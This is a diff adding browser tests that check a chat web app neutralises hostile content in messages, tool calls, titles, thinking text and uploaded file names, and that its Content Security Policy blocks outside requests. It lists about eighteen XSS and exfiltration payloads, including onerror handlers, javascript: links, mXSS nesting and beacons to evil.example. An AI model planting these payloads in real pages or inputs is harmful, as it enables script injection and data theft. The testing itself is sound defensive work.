@@ -1,0 +1,123 @@
+"""Hostile words do nothing, wherever they come from: user, model, tool, file name, title, summary."""
+
+import json
+
+import pytest
+from playwright.sync_api import expect
+
+from everlong.core.messages import CallId, Image, Message, Role, Text, ToolCall, ToolResult
+from everlong.llm.scripted.script import Answer
+from tests.web.browser import PHONE, View, a_view, in_a_browser, the_page
+from tests.web.running import an_app
+
+FLAG = "window.broken=1"
+#: What attackers write; each would set the flag or ask another server for something.
+TRICKS = (
+    f"<script>{FLAG}</script>",
+    f"<img src=x onerror={FLAG}>",
+    f"<svg onload={FLAG}><script>{FLAG}</script></svg>",
+    f"<iframe srcdoc='<script>parent.{FLAG}</script>'></iframe>",
+    f"<details open ontoggle={FLAG}>x</details>",
+    f"<a href='javascript:{FLAG}'>press me</a>",
+    f"[press me](javascript:{FLAG})",
+    f"[press me](data:text/html,<script>{FLAG}</script>)",
+    f'![alt](x"onerror="{FLAG})',
+    "![picture](https://evil.example/pixel.png?secret=1)",
+    "<img src='https://evil.example/pixel.png'>",
+    "<link rel=stylesheet href='https://evil.example/style.css'><style>@import 'https://evil.example/x.css';</style>",
+    "<form action='https://evil.example/'><button>press me</button></form>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={FLAG}>",
+    f"```html\n<script>{FLAG}</script>\n```",
+    f"`</code><script>{FLAG}</script>`",
+    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<div style='position:fixed;inset:0;background:url(https://evil.example/x.png)'>over all</div>",
+)
+HOSTILE = "\n\n".join(TRICKS)
+
+
+def unbroken(view: View) -> None:
+    """Press all that asks to be pressed; the page is still itself and nobody else was asked."""
+    origin = view.page.evaluate("location.origin")
+    for link in view.log.get_by_text("press me").all():
+        link.dispatch_event("click")
+    assert view.page.evaluate("window.broken") is None
+    assert view.page.evaluate("location.origin") == origin == view.origin
+    assert view.foreign() == []
+    inside = "main [role=log] :is(script, iframe, form[action], object, embed, base, meta, link, style)"
+    assert view.page.locator(inside).count() == 0
+    handlers = "all => all.filter(it => it.getAttributeNames().some(name => name.startsWith('on'))).length"
+    assert view.log.locator("*").evaluate_all(handlers) == 0
+    hrefs = view.log.locator("a[href]").evaluate_all("all => all.map(it => it.href)")
+    assert not [href for href in hrefs if href.startswith(("javascript:", "data:"))]
+
+
+@in_a_browser
+def test_hostile_words_of_a_thread_do_nothing() -> None:
+    call = CallId("c1")
+    arguments = json.dumps({"path": HOSTILE})
+    svg = Image(data="PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+", media_type="image/svg+xml")
+    history = [
+        Message(Role.USER, (Text(HOSTILE), svg, Image(url="https://evil.example/pixel.png"))),
+        Message(Role.ASSISTANT, (Text(HOSTILE),)),
+        Message(Role.ASSISTANT, (Text("I call."), ToolCall(call, f"look{TRICKS[1]}", arguments))),
+        Message(Role.TOOL, (ToolResult(call, (Text(HOSTILE),), name=f"look{TRICKS[1]}"),)),
+        Message(Role.ASSISTANT, (Text("The end of it."),)),
+    ]
+    # The policy of the page tells of the pictures that it kept out.
+    with an_app(built=the_page()) as (app, _), a_view(app, complains=("Content Security Policy", "Refused to")) as view:
+        thread = app.page().thread(f"A title {TRICKS[1]} {TRICKS[0]}")
+        app.desk.threads.append(thread, history)
+        view.thread(thread)
+        expect(view.log.get_by_text("The end of it.")).to_be_visible()
+        card = view.log.get_by_role("button").filter(has_text="look")
+        card.first.click()
+        unbroken(view)
+        view.to_first("<script>")
+        unbroken(view)
+        message = view.log.get_by_role("article").first
+        message.hover()
+        view.choose(message.get_by_role("button", name=view.word("chat.menu")).first, "chat.pin")
+        expect(view.panel.get_by_role("button", name=view.like("panel.unpin_which"))).to_be_visible()
+        view.page.keyboard.press("Control+k")
+        view.page.keyboard.type("press")
+        expect(view.page.get_by_role("navigation").get_by_role("link").first).to_be_visible()
+        unbroken(view)
+        expect(view.page.get_by_role("navigation")).to_contain_text("<img src=x")
+
+
+@in_a_browser
+@pytest.mark.parametrize("growing", [True, False], ids=["piece by piece", "at once"])
+def test_hostile_answers_and_file_names_do_nothing_as_they_come(growing: bool) -> None:
+    answer = Answer(text=f"{HOSTILE}\n\nThe end of it.", thinking=HOSTILE, between=0.001 if growing else 0.0)
+    with (
+        an_app(lambda _: answer, built=the_page()) as (app, _),
+        a_view(app, size=PHONE, complains=("Content Security Policy", "Refused to")) as view,
+    ):
+        view.open()
+        view.page.locator("input[type=file]").set_input_files(
+            [{"name": f"{TRICKS[1]}.txt".replace("/", ""), "mimeType": "text/plain", "buffer": HOSTILE.encode()}]
+        )
+        expect(view.page.get_by_role("list", name=view.word("composer.attached"))).to_contain_text("onerror")
+        unbroken_before_rows = view.page.evaluate("window.broken")
+        assert unbroken_before_rows is None
+        view.say(HOSTILE)
+        expect(view.log.get_by_text("The end of it.")).to_be_visible()
+        view.answered()
+        view.log.get_by_role("button", name=view.word("chat.thought")).click()
+        unbroken(view)
+
+
+@in_a_browser
+def test_the_policy_stands_between_the_page_and_everything_else() -> None:
+    with an_app(built=the_page()) as (app, _), a_view(app, complains=("Content Security Policy", "Refused to")) as view:
+        answer = view.page.goto(view.origin)
+        assert answer is not None
+        policy = answer.headers["content-security-policy"]
+        assert "default-src 'none'" in policy
+        assert "unsafe" not in policy
+        # Even a script that found its way in could not reach out, nor start another.
+        outside = "fetch('https://evil.example/').then(() => 'went out', () => 'held back')"
+        assert view.page.evaluate(outside) == "held back"
+        view.page.evaluate(f"document.body.appendChild(document.createElement('script')).textContent = '{FLAG}'")
+        assert view.page.evaluate("window.broken") is None
+        assert view.foreign() == []
